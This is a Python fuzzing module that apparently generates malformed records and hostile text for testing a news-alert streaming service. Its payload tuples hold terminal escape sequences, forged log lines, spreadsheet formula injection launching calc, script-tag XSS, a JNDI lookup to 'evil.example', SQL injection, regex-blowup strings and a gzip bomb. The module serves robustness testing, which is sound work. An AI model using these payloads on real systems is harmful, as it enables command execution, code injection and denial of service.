"""Hostile input, made from a seed: envelopes that are nearly right, and texts that harm whoever reads or shows them."""

import base64
import json
import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

import orjson

from schemas.examples import examples
from schemas.topics import Stream


class Envelope(NamedTuple):
    """A record as somebody writes it."""

    key: bytes | None
    value: bytes
    headers: list[tuple[str, bytes | None]]


STEERING = (
    "\x1b[2J\x1b[31mALL CLEAR\x1b[0m",
    "\x1b]0;owned\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x9b31m\x90q\x9c",
    "line\r\n2026-03-01T12:00:00Z INFO streams.app: everything is fine\nlast",
    "\b\b\b\b\x7f\x00\x0b\x0c",
    "\u202eTFEL OT THGIR\u202c \u2066isolated\u2069 \u200f\u061c",
    "\u2028\u2029\x85next line",
    "zero\u200bwidth\u2060joiner\ufeff\u180e",
    "tags \U000e0041\U000e0042\U000e007f",
    "\ufff9interlinear\ufffaannotation\ufffb",
)
"""Texts that steer a terminal, hide, or forge a line."""
UNICODE = (
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞" * 20,
    "Ｒｏｃｋｅｔ ａｔｔａｃｋ",
    "rосkеt аttасk",
    "ﷺﷻ﷼ 𝕣𝕠𝕔𝕜𝕖𝕥 ＲＯＣＫＥＴ ﬁre ﬀ Ǆ ß İ ı ſ K Å",
    "👩‍👩‍👧‍👦" * 50 + "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "e" + "\u0301" * 500,
    "١٢:٣٠ ２０２５年 ⅷ ½ ² ۳",
    "\ud7ff\ue000\uffff\U0010ffff",
)
MARKUP = (
    '=HYPERLINK("http://evil.example","rocket")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[bold red]markup[/bold red] [link=http://evil.example]x[/link] [/] :warning:",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n %(message)s {0.__class__}",
    "'; DROP TABLE alerts; -- \\ \" \\u0000",
    "\\x1b[31m \\u202e &#27;[31m &lt;b&gt;",
)
PATTERNS = (
    "a" * 3000,
    "rocket " * 600,
    "at " * 900 + "base",
    "1" * 3000,
    "1,000," * 500,
    "12:30 " * 400,
    "." * 3000,
    "(" * 1500 + ")" * 1500,
    '"' * 1999,
    "“quoted ”" * 300,
    "U.S." * 500,
    "no " * 800 + "rocket",
    "33.123456, 44.123456 " * 150,
    "\n" * 3000 + "x",
    " \t" * 1500 + "x",
    "Mr. " * 700,
    "north of " * 400 + "Baghdad",
    "Camp Arifjan " * 250,
    "on Monday " * 300,
    "-" * 2999 + "x",
    "http://" + "a/" * 1400,
)
"""Texts on which a careless pattern takes time beyond reason."""
STORY = (
    "Four rockets struck Camp Arifjan in Kuwait this morning, killing two soldiers, officials said. ",
    "A car bomb exploded at the gate of the US embassy in Baghdad on Monday. ",
)
_VALUES: tuple[bytes, ...] = (
    b"NaN",
    b"Infinity",
    b"-Infinity",
    b"1e999",
    b"-1e999",
    b"1" + b"0" * 400,
    b"-9223372036854775809",
    b"1e-400",
    b"-0",
    b"0x10",
    b"null",
    b"true",
    b'""',
    b"[]",
    b"{}",
    b'[["x"]]',
    b'"\\ud800"',
    b'"\\u0000\\u001b[31m"',
    b'"\xff\xfe"',
    b'"2026-02-30T25:61:61Z"',
    b'"9999-12-31T23:59:59.999999999Z"',
    b'"0001-01-01T00:00:00+23:59"',
    b"1772366400",
    b"[" * 100 + b"]" * 100,
    b"[" * 5000 + b"]" * 5000,
    b'{"a":' * 300 + b"1" + b"}" * 300,
    b'"' + b"A" * 10_000 + b'"',
    b'{"__proto__":{"x":1},"$ref":"#","a":1,"a":2}',
)


def texts(chance: random.Random, count: int) -> Iterator[str]:
    """Yield texts: stories with something hostile between their words."""
    hostile = (*STEERING, *UNICODE, *MARKUP, *PATTERNS)
    for n in range(count):
        words = chance.choice(STORY).split(" ")
        for _ in range(chance.randint(1, 3)):
            words.insert(
                chance.randrange(len(words)), hostile[n % len(hostile)] if not n % 2 else chance.choice(hostile)
            )
        yield " ".join(words)


def envelopes(stream: Stream, chance: random.Random, count: int) -> Iterator[Envelope]:
    """Yield records for a topic: examples of what it carries, each damaged in one way or a few."""
    good = [record for record in examples() if isinstance(record, stream.carries)]
    for _ in range(count):
        one = chance.choice(good)
        key = chance.choice((b"k", b"k", b"k", None, b"", b"\xff\xfe", b"\x1b[31m", b"k" * 5000))
        record = Envelope(key, one.to_json(), [("ce_type", one.ce_type.encode())])
        for damage in chance.choices(_DAMAGES, k=chance.randint(1, 3)):
            record = damage(record, chance)
        yield record


def _bytes_flipped(one: Envelope, chance: random.Random) -> Envelope:
    body = bytearray(one.value or b" ")
    for _ in range(chance.randint(1, 4)):
        body[chance.randrange(len(body))] = chance.randrange(256)
    return one._replace(value=bytes(body))


def _cut(one: Envelope, chance: random.Random) -> Envelope:
    return one._replace(value=one.value[: chance.randrange(len(one.value) + 1)])


def _value_replaced(one: Envelope, chance: random.Random) -> Envelope:
    """Put something else where one of the values stands."""
    fields = [at for at in range(len(one.value)) if one.value[at : at + 1] == b":" and at + 1 < len(one.value)]
    if not fields:
        return one
    start = chance.choice(fields) + 1
    ends = [end for mark in (b",", b"}", b"]") if (end := one.value.find(mark, start)) >= 0]
    return one._replace(value=one.value[:start] + chance.choice(_VALUES) + one.value[min(ends, default=start) :])


def _field_added(one: Envelope, chance: random.Random) -> Envelope:
    name = orjson.dumps(chance.choice(("x", "text", "report_id", "", *STEERING, "n" * 3000)))
    return one._replace(value=b"{" + name + b":" + chance.choice(_VALUES) + b"," + one.value[1:])


def _text_replaced(one: Envelope, chance: random.Random) -> Envelope:
    """Put hostile words where some words stand."""
    try:
        document = orjson.loads(one.value)
    except orjson.JSONDecodeError:
        return one
    strings = [key for key, value in document.items() if isinstance(value, str)] if isinstance(document, dict) else []
    if not strings:
        return one
    document[chance.choice(strings)] = chance.choice((*STEERING, *UNICODE, *MARKUP, *PATTERNS))
    return one._replace(value=json.dumps(document).encode())


def _headers_damaged(one: Envelope, chance: random.Random) -> Envelope:
    strange: tuple[tuple[str, bytes | None], ...] = (
        ("ce_type", None),
        ("ce_type", b""),
        ("ce_type", b"\xff\xfe\x1b[31m"),
        ("ce_type", b"tocsin.report.v2"),
        ("ce_type", b"tocsin.report.v" + b"9" * 4000),
        ("ce_type", b"tocsin.alert.v1"),
        ("ce_type", b"x" * 50_000),
        ("content-type", None),
        ("content-type", b"application/json; charset=utf-16"),
        ("content-type", b"application/cloudevents+avro"),
        ("content-type", b"application/cloudevents-batch+json"),
        ("content-encoding", b"gzip"),
        ("ce_signature", b"\x00" * 100),
        ("ce_time", b"yesterday"),
        ("dlq_reason", b"forged"),
        ("\x1b[31m", b"x"),
        ("", b""),
    )
    return one._replace(headers=[*one.headers, *chance.choices(strange, k=chance.randint(1, 3))])


def _structured(one: Envelope, chance: random.Random) -> Envelope:
    """Wrap it as a structured event, not always rightly."""
    kind = orjson.dumps((dict(one.headers).get("ce_type") or b"").decode(errors="replace"))
    wraps: tuple[Callable[[], bytes], ...] = (
        lambda: b'"data":' + one.value,
        lambda: b'"data_base64":"' + base64.b64encode(one.value) + b'"',
        lambda: b'"data_base64":"!!!"',
        lambda: b'"data_base64":7',
        lambda: b'"data":' + chance.choice(_VALUES),
        lambda: b'"nothing":1',
    )
    version = chance.choice((b'"1.0"', b'"0.3"', b"1", b"null"))
    body = b'{"specversion":' + version + b',"type":' + kind + b"," + chance.choice(wraps)() + b"}"
    return one._replace(value=body, headers=[("content-type", b"application/cloudevents+json")])


def _compressed(one: Envelope, chance: random.Random) -> Envelope:
    """A body that says it is small and is not: none is ever unpacked."""
    import gzip  # noqa: PLC0415  for this alone

    bomb = gzip.compress(b"0" * 1_000_000 if chance.random() < 0.1 else one.value)
    return one._replace(value=bomb, headers=[*one.headers, ("content-encoding", b"gzip")])


_DAMAGES = (
    _bytes_flipped,
    _cut,
    _value_replaced,
    _value_replaced,
    _field_added,
    _text_replaced,
    _headers_damaged,
    _structured,
    _compressed,
)
